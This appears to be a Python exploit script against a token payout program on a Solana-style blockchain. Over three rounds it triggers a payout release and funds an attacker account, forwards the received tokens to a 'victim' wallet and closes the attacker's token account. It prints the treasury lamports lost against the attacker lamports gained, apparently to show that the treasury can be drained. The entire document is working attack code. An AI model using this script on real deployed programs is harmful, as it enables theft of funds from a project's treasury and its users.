from chainlib import *; from db import q
ids=json.load(open('ids.json')); keys=json.load(open('keys.json'))
Ak=ids['att1']; a=kp('att_w'); T=Pubkey.from_string(C['T'])
def lam(p): return rpc('getBalance',str(p),{'commitment':'confirmed'})['result']['value']
t0=lam(T); print(pixr('payouts','release','hold-1'))
for i in range(3):
    if i: t0=lam(T); fund(Ak,1)
    for _ in range(15):
        time.sleep(1)
        if str(bal(a.pubkey())).isdigit() and int(bal(a.pubkey()))>0: break
    b=bal(a.pubkey()); t1=lam(T); l0=lam(a.pubkey())
    if not str(b).isdigit(): print('not paid',b); continue
    send([transfer(ata(a.pubkey()),ata(kp('vic_w').pubkey()),a.pubkey(),int(b)),closeacc(ata(a.pubkey()),a.pubkey(),a.pubkey())],a)
    time.sleep(5); print('round',i,'paid',b,'treasury lamports',t1-t0,'attacker lamports',lam(a.pubkey())-l0)
